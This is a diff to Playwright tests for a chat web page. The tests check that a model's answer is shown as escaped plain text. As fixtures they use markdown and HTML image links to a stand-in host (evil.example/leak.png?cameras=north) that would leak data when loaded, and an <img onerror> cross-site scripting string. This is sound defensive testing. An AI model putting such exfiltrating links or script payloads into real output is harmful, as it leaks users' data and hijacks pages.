@@ -212,7 +212,10 @@ def test_images_and_links_in_the_answer_of_a_model_are_plain_text(
     visit: Visit, colors_index: Index, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """The fixture `visit` fails the test if the browser requests anything from another host."""
-    answer = "It is ![there](http://evil.example/leak.png?cameras=north) [here](http://evil.example/) <b>now</b>"
+    answer = (
+        "It is ![there](http://evil.example/leak.png?cameras=north) [here](http://evil.example/) <b>now</b> "
+        '<a href="http://evil.example/">go</a> <img src="http://evil.example/leak.png">'
+    )
 
     class Scripted:
         def read(self, *_: object) -> tuple[ChatRequest, str]:
@@ -223,9 +226,9 @@ def test_images_and_links_in_the_answer_of_a_model_are_plain_text(
         page = visit(address)
         ask(page, "where is it?")
         assert "north-gate" in cards(page)[0]
-        assert "![there](http" in page.inner_text("#vp-chat")
+        assert answer in page.inner_text("#vp-chat")
         assert "provider, openai" in page.inner_text("#vp-ask")
-        active = page.locator("#vp-chat .message a, #vp-chat .message b, #vp-chat img[src*=evil]")
+        active = page.locator("#vp-chat .message :is(a, b, img[src*=evil])")
         assert active.evaluate_all("nodes => nodes.map(node => node.outerHTML)") == []
 
 
@@ -233,3 +236,4 @@ def test_html_in_a_message_is_escaped(visit: Visit, colors: str) -> None:
     page = visit(colors)
     ask(page, "<img src=x onerror=\"document.title='broken in'\"> green")
     assert page.title() != "broken in"
+    assert "<img src=x onerror=" in page.inner_text("#vp-chat"), "it is shown as it was typed"
